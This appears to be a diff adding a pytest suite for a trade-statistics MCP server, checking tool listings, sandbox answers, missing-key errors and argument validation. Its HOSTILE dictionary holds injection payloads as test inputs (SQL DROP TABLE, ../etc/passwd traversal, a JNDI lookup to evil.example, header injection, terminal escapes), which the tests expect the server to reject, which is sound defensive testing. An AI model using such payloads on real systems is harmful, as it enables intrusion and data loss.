@@ -1,0 +1,198 @@
+"""The whole server: every tool as a client sees it, on the sandbox and on a watched wire."""
+
+import re
+from collections.abc import AsyncGenerator, Callable
+from importlib.metadata import version
+from typing import Any
+
+import pytest
+from mcp import Client
+from mcp_types import CallToolResult, TextContent, Tool
+
+from tradestat_server.app import create_server
+from tradestat_server.prompts import QUESTIONS, write
+from tradestat_server.render import MAX_CHARS, SANDBOX_LABEL
+from tradestat_server.tooling import ERROR_META
+from tradestat_tools.errors import ERRORS
+from tradestat_tools.opening import SANDBOX_URL, open_services
+from tradestat_tools.services import Services
+from tradestat_tools.settings import Settings
+from tradestat_tools.sources import all_sources, endpoints
+
+pytestmark = pytest.mark.anyio
+
+Faults = Callable[[dict[str, Any], Any], list[str]]
+
+KEYS = {"PARSE_API_KEY": "key-one", "DATA_GO_KR_SERVICE_KEY": "key-two", "COMTRADE_API_KEY": "key-three"}
+
+UPSTREAM_TOOLS = {
+    *("get_countries", "get_country_groups", "get_products_hs", "get_services_ebops"),
+    *("goods_time_series", "goods_trade_indicators", "services_time_series", "get_coverage"),
+    *("dashboard", "markets", "trend", "topProducts", "history", "growth", "priceband", "chapter"),
+    *("getNitemtradeList", "getItemtradeList", "getNationtradeList", "getNewtradeList"),
+    *("comtrade_data", "comtrade_reference"),
+}
+
+HOSTILE = {
+    "control characters": "85\x0017",
+    "terminal escape": "\x1b[2J\x1b[31m8517",
+    "ten kilobytes": "8" * 10_000,
+    "line breaks": "8517\r\nHost: evil.example",
+    "sql": "8517'; DROP TABLE flows;--",
+    "path": "../../../../etc/passwd",
+    "address": "https://evil.example/?x=",
+    "template": "${jndi:ldap://evil.example/a}",
+}
+
+FREE_TEXT = {"search"}
+"""Words to filter by, which may be any printable text on one line."""
+
+
+@pytest.fixture(scope="module")
+def sandbox_settings() -> Settings:
+    return Settings(_env_file=None, TRADESTAT_SANDBOX=True)  # pyright: ignore[reportCallIssue]
+
+
+@pytest.fixture
+async def sandbox(sandbox_settings: Settings) -> AsyncGenerator[Services]:
+    async with open_services(sandbox_settings) as services:
+        yield services
+
+
+async def listed(services: Services) -> list[Tool]:
+    async with Client(create_server(services)) as client:
+        return (await client.list_tools()).tools
+
+
+def text_of(result: CallToolResult) -> str:
+    (block,) = result.content
+    assert isinstance(block, TextContent)
+    return block.text
+
+
+def error_of(result: CallToolResult) -> dict[str, Any]:
+    assert result.is_error
+    assert result.meta is not None, text_of(result)
+    return dict(result.meta[ERROR_META])
+
+
+def kind_of(result: CallToolResult) -> str:
+    return str(error_of(result)["kind"])
+
+
+async def test_the_server_says_who_it_is_and_how_to_choose(watched: Services, mode: str) -> None:
+    async with Client(create_server(watched), mode=mode) as client:
+        assert client.server_info is not None
+        assert (client.server_info.name, client.server_info.version) == ("tradestat", version("tradestat-mcp"))
+        assert client.instructions is not None
+        assert "SANDBOX" not in client.instructions
+        for tool in re.findall(r"\b\w+_\w+\b|\bget[A-Z]\w+", client.instructions):
+            assert tool in endpoints(), tool
+
+
+async def test_a_sandbox_server_says_so_before_the_first_call(sandbox: Services) -> None:
+    async with Client(create_server(sandbox)) as client:
+        assert client.instructions is not None
+        assert "every figure is synthetic" in client.instructions
+
+
+async def test_every_upstream_endpoint_is_a_tool(watched: Services) -> None:
+    tools = await listed(watched)
+    assert {tool.name for tool in tools} == UPSTREAM_TOOLS
+    assert len(tools) == len(UPSTREAM_TOOLS)
+
+
+async def test_every_tool_is_described_for_models_and_people(watched: Services) -> None:
+    for tool in await listed(watched):
+        source, endpoint = endpoints()[tool.name]
+        assert tool.title, tool.name
+        assert tool.description
+        assert 100 < len(tool.description) < 600, tool.name
+        assert tool.annotations is not None
+        assert tool.annotations.read_only_hint
+        for name, schema in tool.input_schema["properties"].items():
+            assert schema.get("description"), f"{tool.name}.{name} has no description"
+        assert endpoint in source.endpoints
+
+
+async def test_every_tool_answers_its_example_from_the_sandbox(sandbox: Services, schema_faults: Faults) -> None:
+    async with Client(create_server(sandbox)) as client:
+        tools = {tool.name: tool for tool in (await client.list_tools()).tools}
+        for name, (source, endpoint) in endpoints().items():
+            result = await client.call_tool(name, dict(endpoint.example))
+            text = text_of(result)
+            assert not result.is_error, f"{name}: {text}"
+            assert text.split("\n")[0].startswith(f"{SANDBOX_LABEL} · "), name
+            assert len(text) <= MAX_CHARS
+            assert len(text.split("\n")) > 2, f"{name} has no rows"
+            answer = result.structured_content
+            assert schema_faults(tools[name].output_schema or {}, answer) == [], name
+            assert answer["source"]["state"] == "sandbox", name
+            assert answer["source"]["service"].startswith(source.policy.service), name
+            assert answer["source"]["address"].startswith(SANDBOX_URL), name
+            assert not any(
+                value is None for part in (answer, answer["data"], answer["source"]) for value in part.values()
+            )
+
+
+@pytest.mark.parametrize("anyio_backend", ["asyncio"])  # the event loop plays no part in it
+async def test_every_call_that_a_prompt_advises_is_answered(sandbox: Services) -> None:
+    sample = {
+        **{"country": "China", "reporter": "Korea", "partner": "Viet Nam", "exporter": "China", "importer": "Korea"},
+        **{"market": "Germany", "product": "850760", "hs_code": "8507", "year": "2024", "first_year": "2023"},
+        **{"last_year": "2024", "period": "202403", "flow": "export"},
+    }
+    async with Client(create_server(sandbox)) as client:
+        for question in QUESTIONS:
+            text = write(question, **{name: sample[name] for name in question.arguments})
+            for tool, given in re.findall(r"`(\w+)\(([^`]*)\)`", text):
+                arguments = dict(pair.split("=", 1) for pair in given.split(", "))
+                result = await client.call_tool(tool, arguments)
+                assert not result.is_error or kind_of(result) == "NoData", f"{tool}({given}): {text_of(result)}"
+
+
+async def test_without_keys_the_tools_that_need_one_say_which_and_send_nothing(wire: Any, watched: Services) -> None:
+    keyless = Services(Settings(_env_file=None), watched.upstream, watched.now)  # pyright: ignore[reportCallIssue]
+    needing = [source for source in all_sources() if source.key and source.key.required]
+    assert {source.id for source in needing} == {"trademap", "korea"}
+    async with Client(create_server(keyless)) as client:
+        for source in needing:
+            assert source.key is not None
+            for endpoint in source.endpoints:
+                result = await client.call_tool(endpoint.name, dict(endpoint.example))
+                assert kind_of(result) == "MissingKey", endpoint.name
+                assert source.key.variable in text_of(result)
+    assert wire.sent == []
+
+
+@pytest.mark.parametrize("name", sorted(UPSTREAM_TOOLS))
+@pytest.mark.parametrize("anyio_backend", ["asyncio"])  # the event loop plays no part in it
+async def test_bad_arguments_are_named_and_nothing_is_sent(name: str, wire: Any, watched: Services) -> None:
+    _, endpoint = endpoints()[name]
+    async with Client(create_server(watched)) as client:
+        properties = next(t for t in (await client.list_tools()).tools if t.name == name).input_schema["properties"]
+        bad = [("no_such_argument", "x"), *((argument, {"a": 1}) for argument in properties)]
+        bad += [(argument, value) for argument in properties for value in HOSTILE.values() if argument not in FREE_TEXT]
+        bad += [(argument, HOSTILE["ten kilobytes"]) for argument in properties]
+        bad += [(argument, HOSTILE["line breaks"]) for argument in properties]
+        for argument, value in bad:
+            result = await client.call_tool(name, {**endpoint.example, argument: value})
+            shown = f"{name}({argument}={str(value)[:40]!r}): {text_of(result)}"
+            assert kind_of(result) == "InvalidQuery", shown
+            assert result.structured_content is None
+            assert error_of(result)["argument"] == argument, shown
+            assert len(text_of(result)) < 2_000, shown
+            assert "\x1b" not in text_of(result)
+    assert wire.sent == []
+
+
+async def test_a_failing_service_is_an_error_without_keys(wire: Any, watched: Services) -> None:
+    kinds = {error.kind for error in ERRORS}
+    async with Client(create_server(watched)) as client:
+        for name, (_, endpoint) in endpoints().items():
+            result = await client.call_tool(name, dict(endpoint.example))
+            assert kind_of(result) in kinds - {"InvalidQuery", "MissingKey"}, name
+            assert result.structured_content is None
+            for key in KEYS.values():
+                assert key not in result.model_dump_json(), name
+    assert wire.sent
